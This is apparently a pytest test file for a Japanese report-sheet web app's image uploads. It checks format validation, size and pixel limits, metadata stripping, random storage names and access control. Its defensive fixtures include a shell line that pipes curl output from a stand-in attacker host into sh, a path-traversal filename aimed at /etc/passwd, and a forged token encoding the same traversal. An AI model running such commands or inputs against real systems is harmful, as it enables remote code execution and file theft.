"""Figure uploads: only real PNG/JPEG, at most 5 MB and a sane pixel count, re-encoded without
metadata, stored by random name, served only to those who may read the sheet."""
from __future__ import annotations

import io
import os
import re

import pytest
from PIL import Image, PngImagePlugin

from tests.editing.conftest import form_fields, jpeg_bytes, png_bytes, sheet24
from tests.factories import login
from tests.htmlpage import Page, text_of
from webapp.extensions import db
from webapp.uploads import Limits, UploadError, check_and_encode

LIMITS = Limits()  # the defaults: 5 MB and 40 megapixels a file
MAX_BYTES = 5 * 1024 * 1024

SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def test_a_script_renamed_png_is_refused():
    with pytest.raises(UploadError) as exc:
        check_and_encode(SCRIPT, LIMITS, "photo.png")
    assert str(exc.value) == ("「photo.png」は PNG または JPEG の画像として読み取れません。"
                              "PNG または JPEG の画像ファイルを選んでください。")


def test_a_script_behind_png_magic_bytes_is_refused():
    with pytest.raises(UploadError) as exc:
        check_and_encode(b"\x89PNG\r\n\x1a\n" + SCRIPT, LIMITS, "photo.png")
    assert "画像として読み取れません（ファイルが壊れているか、画像ではありません）" in str(exc.value)


def test_other_image_formats_are_refused():
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, "GIF")
    with pytest.raises(UploadError, match="PNG または JPEG の画像として読み取れません"):
        check_and_encode(out.getvalue(), LIMITS, "anim.png")


def test_a_file_over_5_mb_is_refused():
    noise = Image.frombytes("RGB", (1500, 1500), os.urandom(1500 * 1500 * 3))
    out = io.BytesIO()
    noise.save(out, "PNG", compress_level=0)
    data = out.getvalue()
    assert len(data) > MAX_BYTES
    with pytest.raises(UploadError) as exc:
        check_and_encode(data, LIMITS, "big.png")
    assert str(exc.value) == ("「big.png」は大きすぎます（最大 5 MB）。"
                              "画像を縮小するか、圧縮してからアップロードしてください。")


def test_too_many_pixels_are_refused_before_decoding():
    data = png_bytes(size=(8000, 6000))   # a small file that would decode to 144 MB
    assert len(data) < MAX_BYTES
    with pytest.raises(UploadError) as exc:
        check_and_encode(data, LIMITS, "bomb.png")
    assert str(exc.value) == "「bomb.png」は画素数が大きすぎます（8000×6000）。4,000万画素以下の画像にしてください。"


def test_empty_file_is_refused():
    with pytest.raises(UploadError, match="空のファイルです"):
        check_and_encode(b"", LIMITS, "empty.png")


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"            # Make
    exif[0x0131] = "Editor 1.0"           # Software
    exif[0x0112] = 6                      # Orientation: rotate 90° clockwise to view
    gps = {1: "N", 2: (33.0, 14.0, 20.0), 3: "E", 4: (131.0, 36.0, 3.0)}
    exif[0x8825] = gps
    return exif


def test_exif_is_removed_and_the_photo_kept_upright():
    original = jpeg_bytes(size=(40, 30), exif=_exif().tobytes())
    with Image.open(io.BytesIO(original)) as img:
        assert img.getexif().get(0x010F) == "SecretCam"  # the test image does carry EXIF
    data, ext, width, height = check_and_encode(original, LIMITS, "IMG_0001.JPG")
    assert ext == ".jpg"
    assert (width, height) == (30, 40)                   # orientation applied before dropping it
    assert b"Exif" not in data and b"SecretCam" not in data
    with Image.open(io.BytesIO(data)) as img:
        assert img.format == "JPEG" and dict(img.getexif()) == {}
        assert "exif" not in img.info and "comment" not in img.info


def test_png_text_chunks_are_removed_and_transparency_kept():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "内部の担当者名")
    info.add_text("Comment", "secret-location")
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (255, 0, 0, 0)).save(out, "PNG", pnginfo=info)
    data, ext, _, _ = check_and_encode(out.getvalue(), LIMITS, "chart.png")
    assert ext == ".png" and b"secret-location" not in data and b"tEXt" not in data
    with Image.open(io.BytesIO(data)) as img:
        assert img.mode == "RGBA" and img.getpixel((0, 0))[3] == 0


def test_huge_photos_are_scaled_down():
    _, _, width, height = check_and_encode(jpeg_bytes(size=(4000, 3000)), LIMITS, "wide.jpg")
    assert (width, height) == (2400, 1800)


# ---------------------------------------------------------------- through the form

def _files(folder: str) -> set[str]:
    return set(os.listdir(folder)) if os.path.isdir(folder) else set()


def _with_photo(fields: dict, data: bytes, filename: str, caption: str = "地熱発電所の写真") -> dict:
    fields = dict(fields)
    fields.update({"figures-1-kind": "photo", "figures-1-caption": caption, "figures-1-note": "",
                   "figures-1-image": (io.BytesIO(data), filename)})
    return fields


def test_a_photo_is_stored_by_random_name_and_served_only_to_readers(app24, f, client24, oita):
    sheet = sheet24(f)
    folder = app24.config["UPLOAD_FOLDER"]
    photo = jpeg_bytes(size=(64, 48), exif=_exif().tobytes())
    response = client24.post(f"/sheets/{sheet.id}/edit",
                             data=_with_photo(form_fields(client24, sheet.id), photo, "../../etc/passwd.jpg"),
                             content_type="multipart/form-data")
    assert response.status_code == 303
    db.session.refresh(sheet)
    figure = sheet.figures[1]
    assert figure.caption == "地熱発電所の写真" and figure.kind == "photo"
    assert re.fullmatch(r"[0-9a-f]{32}\.jpg", figure.image_file)
    assert (figure.image_width, figure.image_height) == (48, 64)
    assert _files(folder) == {figure.image_file}
    stored = open(os.path.join(folder, figure.image_file), "rb").read()
    assert b"SecretCam" not in stored

    url = f"/sheets/{sheet.id}/figures/{figure.id}"
    served = client24.get(url)
    assert served.status_code == 200 and served.mimetype == "image/jpeg" and served.data == stored
    other = app24.test_client()
    login(other, f.coordinator("長崎県"))
    assert other.get(url).status_code == 404
    assert app24.test_client().get(url).status_code == 302  # anonymous: log in first
    # the edit page shows it, through the permission-checked route
    page = Page(client24.get(f"/sheets/{sheet.id}/edit"))
    assert any(img.get("src") == url for img in page.all("img"))


def test_a_renamed_script_is_refused_on_the_page_and_nothing_is_stored(app24, f, client24, oita):
    sheet = sheet24(f)
    folder = app24.config["UPLOAD_FOLDER"]
    fields = _with_photo(form_fields(client24, sheet.id), SCRIPT, "photo.png")
    fields["challenges"] = "・一緒に書いた課題"
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
    assert response.status_code == 422
    page = Page(response)
    assert "図表 2: 「photo.png」は PNG または JPEG の画像として読み取れません。" in page.text
    assert "・一緒に書いた課題" in page.html and "地熱発電所の写真" in page.html
    assert _files(folder) == set()
    db.session.refresh(sheet)
    assert sheet.version == 1 and len(sheet.figures) == 1


def test_a_save_refused_for_an_error_elsewhere_stores_no_file_and_says_so(app24, f, client24, oita):
    sheet = sheet24(f)
    folder = app24.config["UPLOAD_FOLDER"]
    fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
    fields["kpis-0-series-7-actual"] = "たくさん"
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
    assert response.status_code == 422
    page = Page(response)
    assert "図表 2 の画像はまだ保存されていません。誤りを直したら、画像をもう一度選んでから保存してください。" in page.text
    assert _files(folder) == set()
    # fix the number, choose the file again and save
    fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
    fields["kpis-0-series-7-actual"] = "230"
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
    assert response.status_code == 303
    db.session.refresh(sheet)
    assert sheet.figures[1].image_file and sheet.kpis[0].values[-1].actual == 230
    assert _files(folder) == {sheet.figures[1].image_file}


def test_a_save_on_a_closed_year_stores_no_file(app24, f, client24, oita):
    from webapp.cycles import close_cycle
    sheet = sheet24(f)
    folder = app24.config["UPLOAD_FOLDER"]
    fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
    close_cycle(2024)
    db.session.commit()
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
    assert response.status_code == 409
    assert _files(folder) == set()


def test_a_save_that_loses_a_conflict_stores_no_file(app24, f, client24, oita):
    sheet = sheet24(f)
    folder = app24.config["UPLOAD_FOLDER"]
    stale = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
    newer = form_fields(client24, sheet.id)
    newer["challenges"] = "・先に保存された課題"
    assert client24.post(f"/sheets/{sheet.id}/edit", data=newer).status_code == 303
    response = client24.post(f"/sheets/{sheet.id}/edit", data=stale, content_type="multipart/form-data")
    assert response.status_code == 409
    assert _files(folder) == set()
    assert "図表 2" in Page(response).text


def test_a_forged_image_token_is_ignored(app24, f, client24, oita):
    sheet = sheet24(f)
    fields = form_fields(client24, sheet.id)
    fields.update({"figures-1-kind": "photo", "figures-1-caption": "偽物",
                   "figures-1-image_token": "eyJmIjoiLi4vLi4vZXRjL3Bhc3N3ZCJ9.forged"})
    assert client24.post(f"/sheets/{sheet.id}/edit", data=fields).status_code == 303
    db.session.refresh(sheet)
    assert sheet.figures[1].caption == "偽物" and sheet.figures[1].image_file is None


def test_removing_a_figure_deletes_its_file_and_reordering_keeps_images(app24, f, client24, oita):
    sheet = sheet24(f)
    folder = app24.config["UPLOAD_FOLDER"]
    fields = _with_photo(form_fields(client24, sheet.id), png_bytes(), "chart.png")
    client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
    db.session.refresh(sheet)
    name = sheet.figures[1].image_file
    # move the photo up (no JavaScript: the server re-shows the form, unsaved)
    fields = form_fields(client24, sheet.id)
    moved = client24.post(f"/sheets/{sheet.id}/edit", data={**fields, "op": "up-figures-1"})
    assert moved.status_code == 200 and "まだ保存されていません" in Page(moved).text
    fields = {k: v for k, v in _page_fields(moved).items()}
    assert fields["figures-0-caption"] == "地熱発電所の写真"
    assert client24.post(f"/sheets/{sheet.id}/edit", data=fields).status_code == 303
    db.session.expire_all()
    sheet = sheet24(f)
    assert [fig.caption for fig in sheet.figures] == ["地熱発電所の写真", "アクションプランの取組の柱（１～７）"]
    assert sheet.figures[0].image_file == name and sheet.figures[1].image_file is None
    # remove it
    fields = form_fields(client24, sheet.id)
    removed = client24.post(f"/sheets/{sheet.id}/edit", data={**fields, "op": "remove-figures-0"})
    fields = _page_fields(removed)
    assert client24.post(f"/sheets/{sheet.id}/edit", data=fields).status_code == 303
    db.session.expire_all()
    assert [fig.caption for fig in sheet24(f).figures] == ["アクションプランの取組の柱（１～７）"]
    assert name not in _files(folder)


def _page_fields(response) -> dict:
    """The fields of a re-shown form (as form_fields does for a GET)."""
    from tests.editing import conftest

    class Once:
        def get(self, url):
            return response
    return conftest.form_fields(Once(), 0)


def test_a_post_over_the_size_limit_says_how_to_get_the_text_back(app24, f, client24, oita):
    sheet = sheet24(f)
    app24.config["MAX_CONTENT_LENGTH"] = 1024 * 1024
    fields = _with_photo(form_fields(client24, sheet.id), b"\xff\xd8\xff" + b"0" * (2 * 1024 * 1024), "big.jpg")
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields, content_type="multipart/form-data")
    assert response.status_code == 413
    text = Page(response).text
    assert "送信した内容が大きすぎたため保存できませんでした（1回の送信は画像を含めて合計 1 MB まで" in text
    assert "「戻る」で編集画面に戻ると入力内容が残っています" in text


def test_a_photo_is_saved_with_the_alternative_text_the_form_asks_for(app24, f, client24, oita):
    sheet = sheet24(f)
    page = Page(client24.get(f"/sheets/{sheet.id}/edit"))
    labels = {label.get("for"): text_of(label) for label in page.all("label")}
    assert labels["figures-0-alt_text"].startswith("代替テキスト")
    fields = _with_photo(form_fields(client24, sheet.id), jpeg_bytes(size=(64, 48)), "plant.jpg")
    fields["figures-1-alt_text"] = "湯けむりの上がる地熱発電所の冷却塔"
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields,
                             content_type="multipart/form-data")
    assert response.status_code == 303
    db.session.refresh(sheet)
    assert sheet.figures[1].alt_text == "湯けむりの上がる地熱発電所の冷却塔"
    assert sheet.figures[1].caption == "地熱発電所の写真"
    page = Page(client24.get(f"/sheets/{sheet.id}/edit"))
    assert page.input_value("figures-1-alt_text") == "湯けむりの上がる地熱発電所の冷却塔"
    # the sheet's page gives the image that text, the caption stays the caption
    shown = Page(client24.get(f"/sheets/{sheet.id}"))
    assert [img.get("alt") for img in shown.all("img")] == ["湯けむりの上がる地熱発電所の冷却塔"]


def test_an_alternative_text_too_long_is_refused_with_its_name(app24, f, client24, oita):
    sheet = sheet24(f)
    fields = _with_photo(form_fields(client24, sheet.id), jpeg_bytes(size=(64, 48)), "plant.jpg")
    fields["figures-1-alt_text"] = "あ" * 301
    response = client24.post(f"/sheets/{sheet.id}/edit", data=fields,
                             content_type="multipart/form-data")
    assert response.status_code == 422
    assert "『図表 2 の代替テキスト』は300文字以内にしてください（現在 301文字）" in Page(response).text
    db.session.refresh(sheet)
    assert len(sheet.figures) == 1
